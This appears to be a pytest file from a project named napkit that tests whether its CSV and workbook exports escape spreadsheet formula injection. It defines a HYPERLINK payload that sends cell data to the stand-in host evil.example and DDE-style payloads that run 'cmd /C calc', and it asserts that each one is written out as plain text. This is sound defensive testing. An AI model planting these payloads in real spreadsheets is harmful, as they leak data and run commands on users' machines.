"""Issue 10.3: text that a spreadsheet would run as a formula never becomes one, in any CSV
file or workbook napkit writes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest

from napkit.core.exports import iptt, tidy
from napkit.core.exports.cells import csv_safe
from napkit.core.monitoring.submissions import coverage
from napkit.core.plan import planfile
from napkit.monitoring import bulk
from tests.conftest import DEMO_FILE
from tests.core.releases import demo_release

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("+3", "+3"),
        ("45%", "45%"),
        ("Women trained", "Women trained"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_a_cell_that_would_run_is_written_as_text(typed: object, written: object) -> None:
    assert csv_safe(typed) == written


def _attacked_plan():  # type: ignore[no-untyped-def]
    data = planfile.to_data(planfile.load(DEMO_FILE))
    indicator = data["objectives"][0]["indicators"][0]
    indicator["unit"] = ATTACK
    indicator["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return type(planfile.load(DEMO_FILE)).model_validate(data)


def test_the_tidy_csv_starts_no_cell_with_a_formula() -> None:
    release = demo_release(_attacked_plan())
    rows = list(csv.reader(io.StringIO(tidy.tidy_csv(release).decode())))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith(("=", "@")) for c in cells)


def test_the_iptt_workbook_holds_no_formula() -> None:
    release = demo_release(_attacked_plan())
    data = iptt.iptt_workbook(release, datetime(2026, 11, 26, tzinfo=UTC))
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert any(str(c.value).startswith("=HYPERLINK") for c in found)  # shown as typed


def test_submission_templates_hold_no_formula() -> None:
    plan = _attacked_plan()
    organisation = plan.objectives[0].indicators[0].responsible
    covered = coverage(plan, organisation)
    text = bulk.template_csv(plan, covered)
    assert "\n@SUM" not in text and ",@SUM" not in text
    book = openpyxl.load_workbook(io.BytesIO(bulk.template_xlsx(plan, covered)))
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


def test_the_comparison_csv_holds_no_formula() -> None:
    from datetime import date

    from napkit.core.scorecard import assess, render
    from napkit.core.scorecard.compare import compare

    plan = _attacked_plan()
    titled = plan.model_copy(
        update={"metadata": plan.metadata.model_copy(update={"title": ATTACK})}
    )
    text = render.comparison_csv(compare([assess(titled, date(2026, 11, 26))]))
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + ATTACK in cells
